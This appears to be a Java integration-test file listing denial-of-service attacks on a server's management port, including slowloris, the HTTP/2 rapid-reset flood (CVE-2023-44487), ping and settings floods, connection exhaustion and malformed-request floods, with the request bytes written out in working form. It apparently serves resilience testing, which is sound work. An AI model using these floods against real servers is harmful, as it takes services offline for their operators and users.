package dev.prefork.it.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.function.IntFunction;
import java.util.function.Supplier;
import java.util.stream.Stream;

/** What has been seen to silence a management port, or the whole pod. */
public enum Attacks implements Attack {
    /** Bodies just below the server's limit that never end: each is kept in memory. */
    UNFINISHED_BODIES(new Flood(
            16,
            once("POST /q/health/live HTTP/1.1\r\nHost: x\r\nContent-Length: 10400000\r\n\r\n" + "x".repeat(9_900_000)),
            false)),

    /** Requests by the thousand on one connection, whose answers are not read. */
    UNREAD_SCRAPES(new Flood(60, once("GET /q/metrics HTTP/1.1\r\nHost: x\r\n\r\n".repeat(1500)), false)),

    /** One scrape on each of many connections, none of which is read. */
    UNREAD_SINGLE_SCRAPES(new Flood(400, once("GET /q/metrics HTTP/1.1\r\nHost: x\r\n\r\n"), false)),

    /** Streams that are reset as soon as they are opened: CVE-2023-44487. */
    HTTP2_RESETS(new Flood(4, () -> http2(Attacks::openedAndReset), true)),

    /** Each must be answered; the answers are not read. */
    HTTP2_PINGS(new Flood(20, () -> http2(stream -> Http2.frame(6, 0, 0, new byte[8])), false)),

    /** As pings. */
    HTTP2_SETTINGS(new Flood(20, () -> http2(stream -> Http2.frame(4, 0, 0, new byte[0])), false)),

    /** One byte of a header each second: slowloris. */
    SLOW_HEADERS(new Flood(300, Attacks::slowly, false)),

    /** Connections that say nothing, far more than are served at a time. */
    SILENT_CONNECTIONS(new Flood(3000, () -> () -> ByteBuffer.allocate(0), false)),

    /** Each is an exception in the decoder, and was 32 lines in the log. */
    MALFORMED_CHUNKS(new Flood(
            20, once("POST /q/health/live HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzzzz\r\n"), true)),

    /** A router cannot decode it, and that was a stack trace each time. */
    INVALID_ESCAPES(new Flood(20, once("GET /q/%zz HTTP/1.1\r\nHost: x\r\n\r\n"), true)),

    /** A server must refuse it, and no route is asked. */
    WITHOUT_HOST(new Flood(20, once("GET /q/health/live HTTP/1.1\r\n\r\n"), true)),

    /** A header without an end. */
    ENDLESS_HEADERS(new Flood(20, endless("GET / HTTP/1.1\r\nHost: x\r\nX-Endless: ", "a".repeat(1 << 14)), true));

    private final Attack attack;

    Attacks(Attack attack) {
        this.attack = attack;
    }

    @Override
    public void run(InetSocketAddress management, Duration atMost) throws IOException {
        attack.run(management, atMost);
    }

    /** The bytes are the same for all connections: a refused one is opened again soon. */
    private static Supplier<Flood.Script> once(String text) {
        byte[] all = bytes(text);
        return () -> of(Stream.of(all).iterator());
    }

    private static Supplier<Flood.Script> endless(String head, String rest) {
        byte[] first = bytes(head);
        byte[] again = bytes(rest);
        return () ->
                of(Stream.concat(Stream.of(first), Stream.generate(() -> again)).iterator());
    }

    private static Flood.Script of(Iterator<byte[]> parts) {
        return () -> parts.hasNext() ? ByteBuffer.wrap(parts.next()) : ByteBuffer.allocate(0);
    }

    private static Flood.Script slowly() {
        Iterator<String> letters = Stream.concat(
                        Stream.of("GET / HTTP/1.1\r\nHost: x\r\n"), Stream.generate(() -> "X-Slow: 1\r\n"))
                .flatMap(text -> text.chars().mapToObj(letter -> Character.toString(letter)))
                .iterator();
        long begin = System.nanoTime();
        int[] sent = {0};
        return () -> {
            if (sent[0] > (System.nanoTime() - begin) / 1_000_000_000) {
                return ByteBuffer.allocate(0);
            }
            sent[0]++;
            return ByteBuffer.wrap(bytes(letters.next()));
        };
    }

    /** Prior knowledge, see section 3.4 of RFC 9113. */
    private static Flood.Script http2(IntFunction<byte[]> frames) {
        int[] stream = {1};
        Stream<byte[]> flood = Stream.generate(() -> {
            List<byte[]> some = new ArrayList<>();
            for (int n = 0; n < 100; n++, stream[0] += 2) {
                some.add(frames.apply(stream[0]));
            }
            return Http2.joined(some);
        });
        byte[] preface =
                Http2.joined(List.of(bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), Http2.frame(4, 0, 0, new byte[0])));
        return of(Stream.concat(Stream.of(preface), flood).iterator());
    }

    private static byte[] openedAndReset(int stream) {
        // :method GET, :scheme http, :path / from the static table of RFC 7541, and an authority.
        byte[] request = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x41, 1, 'x'};
        return Http2.joined(
                List.of(Http2.frame(1, 0x5, stream, request), Http2.frame(3, 0, stream, new byte[] {0, 0, 0, 8})));
    }

    static byte[] bytes(String text) {
        return text.getBytes(ISO_8859_1);
    }
}
